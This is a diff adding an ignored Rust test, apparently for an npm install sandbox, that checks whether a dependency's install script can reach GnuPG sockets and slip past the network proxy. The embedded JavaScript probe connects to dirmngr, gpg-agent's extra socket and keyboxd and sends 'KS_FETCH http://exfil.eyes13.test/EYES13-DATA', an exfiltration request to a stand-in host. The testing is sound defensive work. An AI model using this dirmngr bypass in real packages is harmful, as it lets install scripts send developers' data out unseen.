@@ -1103,3 +1103,105 @@ fn the_proxy_resolves_no_name_the_policy_refuses() {
         result["answer"]
     );
 }
+
+/// GnuPG's other sockets (gpg-agent's own is listed): dirmngr's, which
+/// fetches any URL a client names (`KS_FETCH`, `WKD_GET`) from outside the
+/// sandbox, gpg-agent's restricted `extra` socket (it still signs), and
+/// keyboxd's (the public keyring). In `~/.gnupg` (no `/run/user/<uid>`)
+/// and in `$XDG_RUNTIME_DIR/gnupg`.
+const GNUPG_SOCKETS: &[(&str, &str)] = &[
+    ("dirmngr_home", ".gnupg/S.dirmngr"),
+    ("extra_home", ".gnupg/S.gpg-agent.extra"),
+    ("keyboxd_home", ".gnupg/S.keyboxd"),
+    ("dirmngr_run", "run/gnupg/S.dirmngr"),
+    ("extra_run", "run/gnupg/S.gpg-agent.extra"),
+];
+
+/// Class 1 (a way out that skips the proxy). `privileged_sockets` lists
+/// gpg-agent's main and ssh sockets only. A dependency's script asks
+/// dirmngr to fetch a URL carrying data (`KS_FETCH http://…/<data>`) and
+/// writes to the others, in protect: every socket of
+/// [`GNUPG_SOCKETS`] is reached, with no finding (`~/.gnupg` is hidden from
+/// reads, but a connect is no read).
+#[test]
+#[ignore = "round 13: a dependency script reaches dirmngr (fetches any URL), gpg-agent's extra socket and keyboxd in ~/.gnupg and $XDG_RUNTIME_DIR/gnupg (protect), no finding"]
+fn a_dependency_script_reaches_no_gnupg_socket() {
+    use std::io::Read;
+    use support::probes::{deps, probe};
+    let env = ShimEnv::new(&[]);
+    let home = env.home.path().to_path_buf();
+    let socks: serde_json::Map<String, Value> = GNUPG_SOCKETS
+        .iter()
+        .map(|(k, rel)| {
+            (
+                k.to_string(),
+                Value::from(home.join(rel).display().to_string()),
+            )
+        })
+        .collect();
+    let body = format!(
+        r#"
+const cp = require("child_process");
+const socks = {};
+const js = `const net = require("net"); const socks = ${{JSON.stringify(socks)}}; const out = {{}};
+let left = Object.keys(socks).length;
+const done = () => {{ if (--left === 0) process.stdout.write(JSON.stringify(out)); }};
+for (const [k, p] of Object.entries(socks)) {{
+  const s = net.connect(p, () => {{ s.write("KS_FETCH http://exfil.eyes13.test/EYES13-DATA\\n"); out[k] = "ok"; s.end(); done(); }});
+  s.on("error", e => {{ out[k] = e.code; done(); }});
+}}`;
+const got = JSON.parse(cp.execFileSync(process.execPath, ["-e", js], {{timeout: 10000}}).toString());
+for (const [k, v] of Object.entries(got)) r[k] = v;
+"#,
+        Value::Object(socks)
+    );
+    let registry = NpmRegistry::start_with(vec![probe("pw-gpg", &body)]);
+    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
+    for (name, rel) in GNUPG_SOCKETS {
+        let sock = home.join(rel);
+        fs::create_dir_all(sock.parent().unwrap()).unwrap();
+        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+        let asked = asked.clone();
+        let name = name.to_string();
+        // Never joined: it waits for a client that may not come.
+        std::thread::spawn(move || {
+            if let Ok((mut c, _)) = listener.accept() {
+                let mut buf = [0u8; 128];
+                let n = c.read(&mut buf).unwrap_or(0);
+                if String::from_utf8_lossy(&buf[..n]).contains("EYES13-DATA") {
+                    asked.lock().unwrap().push(name);
+                }
+            }
+        });
+    }
+    let vars = [("XDG_RUNTIME_DIR", home.join("run").display().to_string())];
+    let project = env.home.subdir("proj");
+    let (r, result) = npm_install_with(
+        &env,
+        &registry,
+        "protect",
+        &project,
+        &deps(&["pw-gpg"]),
+        "pw-gpg",
+        &vars,
+    );
+    assert!(!result.is_null(), "pw-gpg did not run\n{}", r.stderr);
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    let serious = r.serious();
+    let unseen: Vec<String> = asked
+        .lock()
+        .unwrap()
+        .iter()
+        .filter(|name| {
+            let rel = GNUPG_SOCKETS.iter().find(|(n, _)| n == name).unwrap().1;
+            let p = home.join(rel).display().to_string();
+            !serious.iter().any(|f| f.to_string().contains(&p))
+        })
+        .cloned()
+        .collect();
+    assert!(
+        unseen.is_empty(),
+        "asked with no finding of medium or more: {unseen:?}\n{result:#}\n{:#}",
+        r.report["findings"]
+    );
+}
